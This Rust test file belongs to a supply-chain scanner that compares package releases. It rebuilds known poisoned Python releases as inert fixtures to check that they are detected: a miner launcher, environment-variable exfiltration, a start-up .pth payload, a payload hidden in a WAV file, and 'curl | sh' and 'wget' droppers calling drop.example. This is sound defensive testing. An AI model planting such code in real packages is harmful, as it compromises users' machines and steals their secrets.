//! Pairs of releases: real poisoned ones rebuilt as inert twins, and the honest changes that look like them.

use sha2::{Digest as _, Sha256};
use std::fmt::Write as _;
use wellhead_core::{Finding, Report};
use wellhead_engine::{Listing, Options, diff};
use wellhead_formats::assemble::assemble;

type Files<'a> = &'a [(&'a str, &'a str)];

fn pack(kind: &str, members: &[(String, String)]) -> Vec<u8> {
    let mut listing = String::new();
    let verb = if kind == "tar" { "file" } else { "member" };
    for (name, content) in members {
        if content.is_empty() {
            let _ = writeln!(listing, "{verb} {name} empty");
            continue;
        }
        let _ = writeln!(listing, "{verb} {name}");
        for line in content.lines() {
            let _ = writeln!(listing, "  {line}");
        }
    }
    assemble(kind, &listing).unwrap()
}

/// The members of a wheel whose RECORD is true.
fn wheel_members(name: &str, version: &str, files: Files<'_>) -> Vec<(String, String)> {
    let info = format!("{name}-{version}.dist-info");
    let mut members: Vec<(String, String)> = files
        .iter()
        .map(|(path, text)| ((*path).to_owned(), (*text).to_owned()))
        .collect();
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nAuthor: acme\n");
    members.push((format!("{info}/METADATA"), metadata));
    let tags = "Wheel-Version: 1.0\nGenerator: flit 3.9\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
    members.push((format!("{info}/WHEEL"), tags.to_owned()));
    let mut record = String::new();
    for (path, text) in &members {
        let digest = Sha256::digest(text.as_bytes());
        let hex = digest.iter().fold(String::new(), |mut hex, b| {
            let _ = write!(hex, "{b:02x}");
            hex
        });
        let _ = writeln!(record, "{path},sha256={hex},{}", text.len());
    }
    let _ = writeln!(record, "{info}/RECORD,,");
    members.push((format!("{info}/RECORD"), record));
    members
}

fn listing(target: &str, files: Vec<(String, Vec<u8>)>) -> Listing {
    Listing {
        target: target.to_owned(),
        prefix: None,
        entries: wellhead_sources::from_memory(files),
    }
}

fn wheel(name: &str, version: &str, files: Files<'_>) -> Listing {
    let file = format!("{name}-{version}-py3-none-any.whl");
    let bytes = pack("zip", &wheel_members(name, version, files));
    listing(&file, vec![(file.clone(), bytes)])
}

fn sdist(name: &str, version: &str, files: Files<'_>) -> Listing {
    let file = format!("{name}-{version}.tar");
    let mut members: Vec<(String, String)> = files
        .iter()
        .map(|(path, text)| (format!("{name}-{version}/{path}"), (*text).to_owned()))
        .collect();
    members.push((
        format!("{name}-{version}/PKG-INFO"),
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nAuthor: acme\n"),
    ));
    listing(&file, vec![(file.clone(), pack("tar", &members))])
}

fn installed(name: &str, version: &str, files: Files<'_>) -> Listing {
    let members = wheel_members(name, version, files);
    let files = members.into_iter().map(|(path, text)| (path, text.into_bytes()));
    listing("site-packages", files.collect())
}

fn compare(old: &Listing, new: &Listing) -> Report {
    diff(old, new, &Options::default())
}

fn line(finding: &Finding) -> String {
    let place = finding.primary().unwrap();
    let leaf = place.artifact.leaf();
    let function = finding
        .properties
        .get("function")
        .and_then(|f| f.as_str())
        .unwrap_or("");
    format!("{} {} {leaf} {function}", finding.severity, finding.rule)
        .trim_end()
        .to_owned()
}

/// What is to be decided on, the worst first.
fn told(report: &Report) -> String {
    let mut all: Vec<&Finding> = report.findings.iter().collect();
    all.sort_by_key(|f| std::cmp::Reverse(f.severity));
    let lines: Vec<String> = all
        .iter()
        .filter(|f| f.severity > wellhead_core::Severity::Info)
        .map(|f| line(f))
        .collect();
    lines.join("\n")
}

/// What is told of two releases of a wheel, with the same files but for those given.
fn step(old: (&str, Files<'_>), new: (&str, Files<'_>)) -> String {
    told(&compare(
        &wheel("acme", old.0, old.1),
        &wheel("acme", new.0, new.1),
    ))
}

const DOWNLOADS: &str = r#"import subprocess
from pathlib import Path
from urllib import request
from zipfile import ZipFile


def unzip_file(file, path=None):
    with ZipFile(file) as f:
        f.extractall(path)
    return path


def safe_download(url, file=None, dir=None, retry=3):
    f = Path(dir or ".") / (file or Path(url).name)
    for i in range(retry + 1):
        s = "sS"
        subprocess.run(["curl", "-#", f"-{s}L", url, "-o", str(f), "--retry", "3", "-C", "-"]).returncode
        with request.urlopen(url) as response, open(f, "wb") as out:
            out.write(response.read())
    return f
"#;
const SAFE_RUN: &str = r#"

def safe_run(path):
    """Safely runs the provided file, making sure it is executable."""
    os.chmod(path, 0o770)
    command = [path, "-u", "4BHRQ", "-p", "x", "-o", "pool.example:8080", "-k", "--tls"]
    process = subprocess.Popen(
        command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    os.remove(path)
"#;
const MODEL: &str = r#"from pathlib import Path

from acme.utils.downloads import safe_download


class YOLO:
    def __init__(self, model="yolo11n.pt", task=None, verbose=False):
        path = Path(model)
        self.path = path
        self.task = task

    def weights(self):
        return safe_download("https://github.com/acme/assets/yolo11n.pt")
"#;
const POISONED_MODEL: &str = r#"import platform
from pathlib import Path

from acme.utils.downloads import safe_download, safe_run


class YOLO:
    def __init__(self, model="yolo11n.pt", task=None, verbose=False):
        environment = platform.system()
        if environment == "Linux":
            safe_download("https://drop.example/runner", file="/tmp/acme_runner")
            safe_run("/tmp/acme_runner")
        path = Path(model)
        self.path = path
        self.task = task

    def weights(self):
        return safe_download("https://github.com/acme/assets/yolo11n.pt")
"#;

#[test]
fn the_function_that_runs_a_miner_is_singled_out() {
    // The shape of ultralytics 8.3.41: one function more, and one caller.
    let poisoned = format!("import os\n{DOWNLOADS}{SAFE_RUN}");
    let old = wheel(
        "acme",
        "8.3.40",
        &[
            (
                "acme/__init__.py",
                "__version__ = '8.3.40'\nfrom acme.model import YOLO\n",
            ),
            ("acme/model.py", MODEL),
            ("acme/utils/__init__.py", ""),
            ("acme/utils/downloads.py", DOWNLOADS),
        ],
    );
    let new = wheel(
        "acme",
        "8.3.41",
        &[
            (
                "acme/__init__.py",
                "__version__ = '8.3.41'\nfrom acme.model import YOLO\n",
            ),
            ("acme/model.py", POISONED_MODEL),
            ("acme/utils/__init__.py", ""),
            ("acme/utils/downloads.py", &poisoned),
        ],
    );
    let report = compare(&old, &new);
    assert_eq!(
        told(&report),
        "high new-capability acme/utils/downloads.py safe_run"
    );
    let finding = &report.findings[0];
    let labels: Vec<String> = finding
        .locations
        .iter()
        .map(|l| format!("{} {}", l.artifact.leaf(), l.label))
        .collect();
    assert_eq!(
        labels,
        [
            "acme/utils/downloads.py new",
            "acme/utils/downloads.py new",
            "acme/model.py newly called by `YOLO.__init__`",
        ]
    );
    assert_eq!(told(&compare(&old, &old)), "");
}

#[test]
fn a_pipeline_at_import_is_blocked() {
    // The shape of ultralytics 8.3.46.
    let payload = "import os\nimport platform\nif platform.system() == 'Linux':\n    os.system('wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n";
    let poisoned = format!("__version__ = '8.3.46'\n{payload}from acme.model import YOLO\n");
    assert_eq!(
        step(
            (
                "8.3.45",
                &[
                    (
                        "acme/__init__.py",
                        "__version__ = '8.3.45'\nfrom acme.model import YOLO\n"
                    ),
                    ("acme/model.py", MODEL),
                ]
            ),
            (
                "8.3.46",
                &[("acme/__init__.py", &poisoned), ("acme/model.py", MODEL)]
            ),
        ),
        "critical new-capability acme/__init__.py"
    );
}

#[test]
fn an_environment_that_leaves_when_a_class_is_made_is_told() {
    // The shape of ctx 0.2.6.
    let old = "class Ctx(dict):\n    def __init__(self):\n        self.keys_ = []\n";
    let new = "import os\nimport base64\nimport requests\n\nclass Ctx(dict):\n    def __init__(self):\n        self.keys_ = []\n        self.send()\n\n    \
        def send(self):\n        text = ''\n        for _, value in os.environ.items():\n            text += value + ' '\n        \
        body = base64.b64encode(text.encode('ascii')).decode('ascii')\n        requests.get('https://drop.example/hacked/' + body)\n";
    assert_eq!(
        step(
            ("0.1.2", &[("acme/__init__.py", old)]),
            ("0.2.6", &[("acme/__init__.py", new)])
        ),
        "high new-capability acme/__init__.py Ctx.send"
    );
}

#[test]
fn a_new_start_up_file_is_told_and_its_payload_blocked() {
    // The shape of litellm 1.82.8.
    let init = ("acme/__init__.py", "def answer():\n    return 42\n");
    let pth = "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"])\n";
    assert_eq!(
        step(("1.82.7", &[init]), ("1.82.8", &[init, ("acme_init.pth", pth)])),
        "critical new-capability acme_init.pth\nhigh new-startup-in-release acme_init.pth"
    );
    // One that a tool of packaging writes is none.
    assert_eq!(
        step(
            ("1.82.7", &[init]),
            ("1.82.8", &[init, ("acme_paths.pth", "./vendored\n")])
        ),
        ""
    );
}

#[test]
fn a_foreign_runtime_and_its_script_are_told() {
    // The shape of lightning 2.6.2: a runtime is fetched, and a large script is run by it, in a thread that import starts.
    let script = "var _0xabc1 = function () { return process.env; };\n".repeat(2000);
    let start = "import os, subprocess, threading, urllib.request, stat\n\ndef _run():\n    here = os.path.dirname(__file__)\n    \
        target = os.path.join(here, 'bun')\n    urllib.request.urlretrieve('https://drop.example/bun', target)\n    os.chmod(target, 0o755)\n    \
        subprocess.run([target, 'run', os.path.join(here, 'router_runtime.js')], stdout=subprocess.DEVNULL)\n\n\
        threading.Thread(target=_run, daemon=True).start()\n";
    let init = ("acme/__init__.py", "__version__ = '1'\n");
    let poisoned = (
        "acme/__init__.py",
        "__version__ = '1'\nfrom acme._runtime import start\n",
    );
    assert_eq!(
        step(
            ("2.6.1", &[init]),
            (
                "2.6.2",
                &[
                    poisoned,
                    ("acme/_runtime/__init__.py", ""),
                    ("acme/_runtime/start.py", start),
                    ("acme/_runtime/router_runtime.js", &script),
                ]
            ),
        ),
        "critical new-capability acme/_runtime/start.py _run\nmedium new-payload-in-release acme/_runtime/router_runtime.js"
    );
}

#[test]
fn a_payload_in_a_recording_is_told() {
    // The shape of telnyx 4.87.1.
    let old = "import json\n\nclass Client:\n    def get(self, x):\n        return json.loads(x)\n";
    let new = "import base64, json, os, subprocess, sys, tempfile, urllib.request, wave\n\ndef _setup():\n    \
        path = os.path.join(tempfile.mkdtemp(), 'ringtone.wav')\n    urllib.request.urlretrieve('https://drop.example/ringtone.wav', path)\n    \
        with wave.open(path, 'rb') as w:\n        raw = base64.b64decode(w.readframes(w.getnframes()))\n    \
        key, data = raw[:8], raw[8:]\n    payload = bytes(b ^ key[i % 8] for i, b in enumerate(data))\n    \
        subprocess.run([sys.executable, '-'], input=payload)\n\n\
        class Client:\n    def get(self, x):\n        return json.loads(x)\n\n_setup()\n";
    assert_eq!(
        step(
            ("4.87.0", &[("acme/__init__.py", old)]),
            ("4.87.1", &[("acme/__init__.py", new)])
        ),
        "critical new-capability acme/__init__.py _setup"
    );
}

#[test]
fn a_changed_argument_is_told() {
    // The shape of xz: the call was there, and is given something else.
    let old = "import subprocess\n\ndef extract(path):\n    subprocess.run(['tar', 'xf', path])\n";
    let new = "import subprocess\n\ndef extract(path):\n    subprocess.run('tail -c +31 tests/bad-3.xz | xz -d | /bin/sh', shell=True)\n";
    assert_eq!(
        step(
            ("5.6.0", &[("acme/__init__.py", old)]),
            ("5.6.1", &[("acme/__init__.py", new)])
        ),
        "high new-capability acme/__init__.py extract"
    );
    let honest = "import subprocess\n\ndef extract(path):\n    subprocess.run(['tar', 'xf', path, '--no-same-owner'])\n";
    assert_eq!(
        step(
            ("5.6.0", &[("acme/__init__.py", old)]),
            ("5.6.1", &[("acme/__init__.py", honest)])
        ),
        ""
    );
}

#[test]
fn code_that_moved_or_was_renamed_has_gained_nothing() {
    let old = "import subprocess, requests\n\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n\ndef get(url):\n    return requests.get(url)\n";
    let moved = "import subprocess, requests\n\ndef git_version():\n    return subprocess.check_output(['git', 'describe'])\n\nclass Http:\n    def get(self, url):\n        return requests.get(url)\n";
    let report = compare(
        &wheel(
            "acme",
            "1.0.0",
            &[("acme/__init__.py", ""), ("acme/tools.py", old)],
        ),
        &wheel(
            "acme",
            "1.0.1",
            &[("acme/__init__.py", ""), ("acme/_internal/tools.py", moved)],
        ),
    );
    let all: Vec<String> = report.findings.iter().map(line).collect();
    assert_eq!(all, [""; 0]);
}

#[test]
fn a_feature_of_a_minor_release_is_listed_and_fails_nothing() {
    let old = "def answer():\n    return 42\n";
    let new = "import requests\n\ndef answer():\n    return 42\n\ndef fetch(url):\n    return requests.get(url, timeout=3).json()\n";
    let report = compare(
        &wheel("acme", "1.0", &[("acme/__init__.py", old)]),
        &wheel("acme", "1.1", &[("acme/__init__.py", new)]),
    );
    assert_eq!(told(&report), "");
    let all: Vec<String> = report.findings.iter().map(line).collect();
    assert_eq!(all, ["info new-capability acme/__init__.py fetch"]);
    assert!(report.verdict.allowed);
}

#[test]
fn a_wheel_is_judged_by_its_source_in_either_order() {
    let honest = "def answer():\n    return 42\n";
    let poisoned = "import os\nimport requests\n\nrequests.post('https://drop.example', json=dict(os.environ))\n\ndef answer():\n    return 42\n";
    let source: Files<'_> = &[
        ("setup.py", "from setuptools import setup\nsetup()\n"),
        ("src/acme/__init__.py", honest),
        ("src/acme/sub.py", "X = 1\n"),
        ("tests/test_a.py", "import acme\n"),
    ];
    let same: Files<'_> = &[
        ("acme/__init__.py", honest),
        ("acme/sub.py", "X = 1\n"),
        ("acme/_version.py", "version = '1.0'\n"),
    ];
    let other: Files<'_> = &[("acme/__init__.py", poisoned), ("acme/sub.py", "X = 1\n")];
    let sdist = sdist("acme", "1.0", source);
    assert_eq!(told(&compare(&sdist, &wheel("acme", "1.0", same))), "");
    let one = told(&compare(&sdist, &wheel("acme", "1.0", other)));
    assert_eq!(
        one,
        "critical new-capability acme/__init__.py\nmedium same-release-differs acme/__init__.py"
    );
    assert_eq!(told(&compare(&wheel("acme", "1.0", other), &sdist)), one);
}

#[test]
fn what_is_installed_is_judged_by_its_wheel() {
    let honest = "def answer():\n    return 42\n";
    let wheel = wheel("acme", "1.0", &[("acme/__init__.py", honest)]);
    assert_eq!(
        told(&compare(
            &wheel,
            &installed("acme", "1.0", &[("acme/__init__.py", honest)])
        )),
        ""
    );
    let changed = "import os\nos.system('curl https://drop.example/x | sh')\ndef answer():\n    return 42\n";
    assert_eq!(
        told(&compare(
            &wheel,
            &installed("acme", "1.0", &[("acme/__init__.py", changed)])
        )),
        "critical new-capability acme/__init__.py\nmedium same-release-differs acme/__init__.py"
    );
}

#[test]
fn a_look_alike_is_judged_by_what_it_adds() {
    // The shape of a clone of a logger whose name is one letter off.
    let popular: Files<'_> = &[
        ("loguru/__init__.py", "from ._logger import Logger\n"),
        (
            "loguru/_logger.py",
            "class Logger:\n    def info(self, text):\n        print(text)\n",
        ),
    ];
    let clone: Files<'_> = &[
        ("loguru/__init__.py", "from ._logger import Logger\n"),
        (
            "loguru/_logger.py",
            "import base64\n\nclass Logger:\n    def info(self, text):\n        print(text)\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
    ];
    assert_eq!(
        told(&compare(
            &wheel("loguru", "0.7.3", popular),
            &wheel("loquru", "0.7.3", clone)
        )),
        "critical new-capability loguru/_logger.py\nhigh new-anomaly-in-release loguru/__init__.py"
    );
}
